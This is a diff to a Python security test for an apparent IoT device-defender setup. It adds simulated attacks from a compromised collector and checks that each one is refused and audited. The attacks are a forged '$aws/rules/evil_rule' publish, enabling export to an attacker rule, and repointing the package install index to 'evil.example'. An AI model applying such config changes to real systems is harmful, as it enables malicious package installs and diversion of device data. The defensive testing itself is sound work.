@@ -219,6 +219,13 @@ report("other-thing", call({"op": "publish_iot", "topic": f"ggdefender/things/{t
                             "b64": base64.b64encode(json.dumps({
                                 "thingName": "someoneElse", "violationId": "x", "securityProfileName": "p",
                                 "violationEventType": "in-alarm", "behavior": {"name": "b"}}).encode()).decode()}))
+# Collector.Export is off here: no Basic Ingest rule, whichever B names, and B cannot turn it on
+report("forged-rule", call({"op": "publish_iot", "qos": 1, "b64": base64.b64encode(good).decode(),
+                            "topic": f"$aws/rules/evil_rule/things/{thing}/defender/metrics/json"}))
+report("export-on", call({"op": "update_config", "keyPath": ["Collector"],
+                          "valueToMerge": {"Export": {"Mode": "also", "RuleName": "evil_rule"}}}))
+report("install-index", call({"op": "update_config", "keyPath": ["Install"],
+                              "valueToMerge": {"IndexUrl": "https://evil.example/simple"}}))
 report("public-door", call({"op": "publish_local", "topic": "ggdefender/remediation/requests",
                             "json": {"requestId": "door", "operation": "kill-process",
                                      "arguments": {"pid": args["v1_pid"], "signal": "SIGKILL"}}}))
@@ -286,6 +293,9 @@ def test_a_compromised_collector_gets_exactly_what_the_mitigation_policy_allows(
             refused("forged-answer", "denied", "never delivered")
             refused("other-thing", "denied", "someoneElse")
             refused("public-door", "denied", "relay policy")
+            refused("forged-rule", "denied", "Collector.Export is off")
+            refused("export-on", "denied", "only process A may do this")
+            refused("install-index", "denied", "only process A may do this")
             # A logged each refusal with its reason
             audits = [json.loads(line.split("AUDIT ", 1)[1]) for line in log.splitlines() if "AUDIT {" in line]
             rejected = {a["job"] for a in audits if a["result"] == "REJECTED"}
